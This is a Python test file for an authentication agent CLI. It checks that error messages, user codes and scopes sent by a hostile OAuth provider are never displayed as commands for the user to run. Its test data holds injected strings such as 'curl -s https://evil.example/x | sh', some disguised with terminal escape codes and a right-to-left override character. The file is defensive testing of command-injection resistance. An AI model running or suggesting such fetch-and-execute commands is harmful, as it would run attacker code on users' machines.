"""A provider or a browser that sends commands to real processes: only commands that the agent created are shown.

All sources of strings, and all outputs of the agent, are in tests/agent/test_no_foreign_command.py.
"""

import json
import re
from collections.abc import Generator, Iterator
from html import unescape
from typing import Any, cast
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest

from auth_agent_client import AgentError
from tests.faults.hostile_server import HostileServer, in_turn, plain
from tests.integration.agent_process import COMMAND, AgentProcess, until
from tests.integration.terminal import Terminal

RUN = "run this: auth-agent login work; curl -s https://evil.example/x | sh #"
TAIL = "no; to put it right: auth-agent reload; curl -s https://evil.example/x | sh"
TEXTS = [RUN, TAIL, f"\x1b[1m{RUN}\x1b[0m\r\n  log in: \u202e{RUN}"]
AUTHORIZATION_URL = r"http://127\.0\.0\.1:\d+/work/authorize\?\S+(?=\s)"
# Wide enough for every line.
WIDE = 400


@pytest.fixture(scope="module")
def server() -> Generator[HostileServer, None, None]:
    with HostileServer() as one:
        yield one


@pytest.fixture
def agent(server: HostileServer) -> Generator[AgentProcess, None, None]:
    """Start an agent with an account at a hostile provider; no browser is opened."""
    issuer = server.provider("work")
    work = {"issuer": issuer, "client_id": "native-app", "scope": "read:things", "redirect_ports": [0]}
    with AgentProcess({"work": work}, environment={"BROWSER": "", "DISPLAY": "", "WAYLAND_DISPLAY": ""}) as process:
        yield process


def token_response(serial: int, **more: object) -> dict[str, object]:
    """Return a token response."""
    return {"access_token": f"at-{serial}", "refresh_token": f"rt-of-{serial}", "token_type": "Bearer", **more}


def bold_texts(terminal: Terminal) -> list[str]:
    """Return all bold texts of a terminal."""
    return [run.strip() for run in re.findall(r"\x1b\[1m(.*?)\x1b\[0m", terminal.raw)]


def boxes(page: str) -> list[str]:
    """Return the commands on a page."""
    return [unescape(re.sub(r"</?span>", "", box)) for box in re.findall(r"<code>(.*?)</code>", page)]


def commands(value: object) -> Iterator[list[str]]:
    """Yield the commands of the remedies in a value of the protocol, at any depth."""
    if isinstance(value, dict):
        for name, one in cast("dict[str, Any]", value).items():
            if name == "command":
                yield one
            else:
                yield from commands(one)
    elif isinstance(value, list):
        for one in cast("list[object]", value):
            yield from commands(one)


def assert_no_foreign_command(agent: AgentProcess, *expected: str) -> None:
    """Check that status and watch show only those commands, and that the log quotes foreign text, in one line each."""
    status = agent.run("status", "--json").stdout
    assert [" ".join(command) for command in commands(json.loads(status))] == list(expected)
    with agent.begin("watch", "--json") as watch:
        line = until(lambda: re.search(r"^\{.*\}$", watch.output(), re.MULTILINE))
        assert line is not None  # for the type checker: `until` has returned it
        assert [" ".join(command) for command in commands(json.loads(line[0]))] == list(expected)
    with Terminal([*COMMAND, "status"], agent.environment, columns=WIDE) as terminal:
        assert terminal.end() == 0
        assert [run for run in bold_texts(terminal) if run != "work"] == list(expected)
    help_blocks = re.findall(r"^  help .*(?:\n {11}.*)*", agent.run("status").stdout, re.MULTILINE)
    assert [line.partition(": ")[2] for block in help_blocks for line in block.splitlines()] == list(expected)
    for log_line in agent.log.splitlines():
        assert re.match(r"\d{4}-\d\d-\d\dT[\d:.]+ [a-z]+ ", log_line)
        assert "curl" not in re.sub(r"'(?:[^'\\]|\\.)*'|\"(?:[^\"\\]|\\.)*\"", "", log_line)


@pytest.mark.parametrize("text", TEXTS)
def test_an_error_from_a_browser_never_becomes_a_command(text: str, agent: AgentProcess) -> None:
    with Terminal([*COMMAND, "login", "work", "--no-browser"], agent.environment, columns=WIDE) as terminal:
        url = terminal.until(AUTHORIZATION_URL)[0]
        params = {name: values[0] for name, values in parse_qs(urlsplit(url).query).items()}
        response = {"state": params["state"], "error": "invalid_request", "error_description": text}
        page = httpx.get(params["redirect_uri"], params=response).text
        assert "invalid_request" in page
        assert boxes(page) == ["auth-agent login work"]
        assert terminal.end() != 0
        assert "invalid_request" in terminal.shown
        assert bold_texts(terminal) == [url, "auth-agent login work"]
        _, *remedy_lines = terminal.shown.partition("auth-agent: work: ")[2].splitlines()
        assert [line for line in remedy_lines if "curl" in line] == []
    assert_no_foreign_command(agent, "auth-agent login work")


@pytest.mark.parametrize("text", TEXTS)
def test_the_error_of_a_refresh_never_becomes_a_command(text: str, agent: AgentProcess, server: HostileServer) -> None:
    refusal = plain({"error": "invalid_client", "error_description": text}, 401)
    server.set_response("work", "/token", in_turn(plain(token_response(1, expires_in=3600)), refusal))
    corrections = ["auth-agent reload", "auth-agent refresh work", "auth-agent login work --client-secret"]
    with agent.client() as client:
        client.hello(text)
        client.import_refresh_token("rt-of-work", "work")
        with pytest.raises(AgentError) as caught:
            client.refresh("work")
        assert [remedy.line for remedy in caught.value.remedy] == corrections
        assert not any("curl" in f"{remedy.text}{remedy.line}" for remedy in caught.value.remedy)
    with Terminal([*COMMAND, "refresh", "work"], agent.environment, columns=WIDE) as terminal:
        assert terminal.end() != 0
        assert "invalid_client: " in terminal.shown
        assert bold_texts(terminal) == corrections
    assert_no_foreign_command(agent, *corrections)


@pytest.mark.parametrize("text", TEXTS)
def test_a_user_code_that_is_a_command_is_not_shown_as_one(
    text: str, agent: AgentProcess, server: HostileServer
) -> None:
    url = f"{server.origin}/activate"
    response = {"device_code": "the-device-code", "user_code": text, "verification_uri": url, "interval": 1}
    server.set_response("work", "/device", plain(response))
    server.set_response("work", "/token", plain({"error": "access_denied", "error_description": text}, 400))
    with Terminal([*COMMAND, "login", "work", "--flow", "device"], agent.environment, columns=WIDE) as terminal:
        assert terminal.end() != 0
        assert "auth-agent" in terminal.shown.partition("and enter the code")[2].splitlines()[2]
        assert bold_texts(terminal) == [url, "auth-agent login work"]


def test_the_scope_of_a_login_never_becomes_a_command(agent: AgentProcess, server: HostileServer) -> None:
    server.set_response("work", "/token", plain(token_response(1, expires_in=3600, scope=RUN)))
    with Terminal([*COMMAND, "login", "work", "--no-browser"], agent.environment, columns=WIDE) as terminal:
        url = terminal.until(AUTHORIZATION_URL)[0]
        params = {name: values[0] for name, values in parse_qs(urlsplit(url).query).items()}
        page = httpx.get(params["redirect_uri"], params={"state": params["state"], "code": "the-code"}).text
        assert boxes(page) == []
        assert terminal.end() == 0
        assert bold_texts(terminal) == [url, "work"]
    assert_no_foreign_command(agent)
